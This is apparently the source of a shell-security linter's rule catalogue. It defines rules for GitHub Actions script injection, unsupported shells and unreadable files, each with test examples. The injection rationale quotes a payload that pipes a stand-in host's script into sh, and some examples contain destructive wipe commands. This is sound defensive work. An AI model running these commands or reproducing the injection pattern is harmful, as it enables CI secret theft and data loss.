/**
 * The linter's own rules: what a file's format shows beyond the shell code in it. Each has its
 * examples beside it, files of one kind with the line and column the finding starts at (or none
 * for an example that must not match); test/lint/lint-rules.test.ts lints them all.
 */
import { fillDetail, type FindingMeta } from '../findings/catalog.js';
import type { SourceKindName } from './sources/types.js';

export interface LintExample {
  /** The file's path inside the linted tree: it decides the kind (`.github/workflows/ci.yml`). */
  path: string;
  text: string;
  /** Where the finding starts (1-based), or null when the example must not produce it. */
  at: { line: number; column: number } | null;
}

export interface LintRuleMeta extends Omit<FindingMeta, 'examples'> {
  /** The kinds of file it can appear in. */
  kinds: readonly SourceKindName[];
  examples: readonly LintExample[];
}

export const LINT_RULES = {
  'lint/script-injection': {
    category: 'script-injection',
    level: 'deny',
    kinds: ['github-actions'],
    message: 'an untrusted value ({detail}) is spliced into the script text: whoever writes it chooses the commands that run',
    rationale:
      'GitHub replaces `${{ … }}` before the shell reads the script, so the value becomes code, not data. A pull request title, an issue body, a branch name or a commit message is written by anyone who can open one; a title such as `"; curl evil.sh | sh; #` runs with the job\'s token and secrets. Quoting does not help: the value is pasted before quoting is read.',
    safer: 'pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) and use `"$TITLE"` in the script',
    examples: [
      {
        path: '.github/workflows/triage.yml',
        text: 'on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
        at: { line: 6, column: 20 },
      },
      {
        path: '.github/workflows/triage.yml',
        text: 'on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE"\n',
        at: null,
      },
      {
        path: '.github/workflows/label.yml',
        text: "on: pull_request_target\njobs:\n  l:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          git fetch origin ${{ format('refs/heads/{0}', github.head_ref) }}\n",
        at: { line: 7, column: 28 },
      },
      {
        path: '.github/workflows/comment.yml',
        text: "on: issue_comment\njobs:\n  c:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: console.log('${{ github.event.comment.body }}')\n",
        at: { line: 8, column: 32 },
      },
      {
        path: '.github/actions/greet/action.yml',
        text: 'inputs:\n  who: {}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: echo "Hello ${{ inputs.who }}"\n',
        at: null,
      },
    ],
  },
  'lint/unsupported-shell': {
    category: 'parse',
    level: 'ask',
    kinds: ['dockerfile', 'github-actions', 'makefile'],
    message: 'this code runs in {detail}, which shellgate does not read: what it does cannot be checked',
    rationale:
      'shellgate reads bash and POSIX sh. Code for PowerShell, cmd, Python or another interpreter named as the shell is not analysed, so nothing is known about what it runs; it is reported rather than passed as harmless.',
    safer: 'use bash or sh for steps that should be checked, or review this code by hand',
    examples: [
      {
        path: '.github/workflows/win.yml',
        text: 'on: push\njobs:\n  w:\n    runs-on: windows-latest\n    steps:\n      - shell: pwsh\n        run: Remove-Item -Recurse C:\\\n',
        at: { line: 7, column: 14 },
      },
      {
        path: 'Makefile',
        text: 'SHELL := pwsh\nclean:\n\tRemove-Item -Recurse build\n',
        at: { line: 3, column: 2 },
      },
      { path: 'Makefile', text: 'SHELL := /usr/bin/env bash\nclean:\n\trm -rf build\n', at: null },
    ],
  },
  'lint/unreadable-file': {
    category: 'parse',
    level: 'ask',
    kinds: ['shell', 'dockerfile', 'github-actions', 'gitlab-ci', 'package-json', 'compose'],
    message: 'the file cannot be read as {detail}, so the commands in it cannot be listed',
    rationale:
      'A YAML or JSON syntax error, or a Dockerfile heredoc that never ends, leaves the commands the file holds unknown. The tool that runs the file may read it otherwise or refuse it; either way shellgate cannot say what would run, so it reports the file instead of passing it.',
    safer: 'fix the syntax error the message names',
    examples: [
      { path: 'package.json', text: '{ "scripts": { "build": "tsc" \n', at: { line: 2, column: 1 } },
      { path: 'Dockerfile', text: 'FROM alpine\nRUN <<EOF\nrm -rf /\n', at: { line: 2, column: 1 } },
      { path: 'package.json', text: '{ "scripts": { "build": "tsc" } }\n', at: null },
    ],
  },
} as const satisfies Record<string, LintRuleMeta>;

export type LintRuleId = keyof typeof LINT_RULES;

/** The message of a lint rule with `{detail}` filled in. */
export function lintMessage(rule: LintRuleId, detail: string): string {
  return fillDetail(LINT_RULES[rule].message, detail);
}
